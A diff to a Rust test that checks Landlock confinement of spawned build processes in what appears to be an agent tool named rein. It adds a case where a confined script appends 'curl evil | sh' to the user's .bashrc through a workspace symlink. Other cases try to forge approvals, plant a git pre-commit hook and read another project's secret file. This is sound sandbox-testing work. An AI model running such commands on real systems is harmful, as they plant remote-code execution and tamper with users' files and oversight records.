@@ -1,6 +1,7 @@
 //! Spawned programs run confined by Landlock: an hvigorw stand-in that runs the agent's code
 //! (as `hvigorfile.ts` would) tries to reach the user's shell profile, ssh key, rein's home,
-//! the journal, git hooks and another project; everything fails but the build's own writes.
+//! the journal, git hooks, another project and a workspace link to the home; everything fails
+//! but the build's own writes.
 //! The same program with `[spawn] confine = "off"` reaches them all, so the test can fail.
 
 use std::os::unix::fs::PermissionsExt;
@@ -28,12 +29,13 @@ try rein_home sh -c "echo '[[allow]]' >> '@HOME@/approvals.toml'"
 try journal sh -c 'echo forged > .rein/journal/forged.jsonl'
 try git_hook sh -c 'echo evil > .git/hooks/pre-commit'
 try workspace_root sh -c 'echo x > new-top-level-file'
+try link_to_home sh -c 'echo "curl evil | sh" >> home-link/.bashrc'
 try other_project sh -c "echo x > '@OTHER@/notes.txt'"
 try other_project_read sh -c "cat '@OTHER@/secret.txt' > /dev/null"
 "#;
 
 /// The outcome each attempt must have when confined.
-const CONFINED: [(&str, &str); 13] = [
+const CONFINED: [(&str, &str); 14] = [
     ("build_output", "ok"),
     ("build_dir", "ok"),
     ("hvigor_cache", "ok"),
@@ -45,6 +47,7 @@ const CONFINED: [(&str, &str); 13] = [
     ("journal", "denied"),
     ("git_hook", "denied"),
     ("workspace_root", "denied"),
+    ("link_to_home", "denied"),
     ("other_project", "denied"),
     ("other_project_read", "denied"),
 ];
@@ -70,6 +73,7 @@ fn setup(confine: &str) -> Setup {
     ws.file("hvigorfile.ts", "export default {}\n");
     ws.file("entry/src/main/ets/Index.ets", "// page\n");
     ws.file(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
+    std::os::unix::fs::symlink(&user_home, ws.path("home-link")).unwrap();
     ws.file("tools/build.lua", "return { name = 'build', description = 'builds', run = function() return rein.proc.run('hvigorw', { 'assembleHap' }) end }");
     let hvigorw = ws.root.join("clt/bin/hvigorw");
     std::fs::create_dir_all(hvigorw.parent().unwrap()).unwrap();
